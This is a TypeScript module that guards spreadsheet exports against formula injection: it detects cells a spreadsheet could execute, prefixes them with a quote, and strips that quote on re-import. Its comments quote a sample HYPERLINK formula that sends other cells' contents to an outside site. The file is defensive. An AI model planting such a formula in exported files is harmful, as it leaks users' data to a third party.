// Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with =, +, -, @, a tab or a carriage
// return may be run as a formula when a CSV is opened in Excel or LibreOffice, e.g. =HYPERLINK("http://…?"&A1) sends
// other cells to a stranger's site. The sheet export puts a ' before such a cell, which spreadsheets show as text;
// the pipeline drops that ' again on re-import, so an export reads back as it was written.

/**
 * Matches a cell a spreadsheet could run as a formula. A plain negative number ("-36.5") is left alone: it is data,
 * and Excel reads it as a number either way. Given to PapaParse's `unparse` as `escapeFormulae`.
 * @example FORMULA_CELL.test('=HYPERLINK("http://x")') // true; FORMULA_CELL.test("-12.5") // false
 */
export const FORMULA_CELL = /^(?:[=+@\t\r]|-(?!\d*\.?\d+$))/;

/** The guard the export adds before a formula-like cell. */
export const FORMULA_GUARD = "'";

/** Whether `text` would run as a formula (see FORMULA_CELL); cheap for the usual cell that starts with a letter. */
export function isFormulaCell(text: string): boolean {
  const c = text.charCodeAt(0);
  // = + - @ \t \r: anything else is plain text without running the pattern.
  if (c !== 0x3d && c !== 0x2b && c !== 0x2d && c !== 0x40 && c !== 0x09 && c !== 0x0d) return false;
  return FORMULA_CELL.test(text);
}

/**
 * The cell without the export's guard: a ' that comes before a formula-like text is dropped, any other ' is text.
 * @example withoutFormulaGuard("'=1+1") // "=1+1"; withoutFormulaGuard("'Ayn Issa'") // "'Ayn Issa'"
 */
export function withoutFormulaGuard(cell: string): string {
  return cell.charCodeAt(0) === 0x27 && isFormulaCell(cell.slice(1)) ? cell.slice(1) : cell;
}
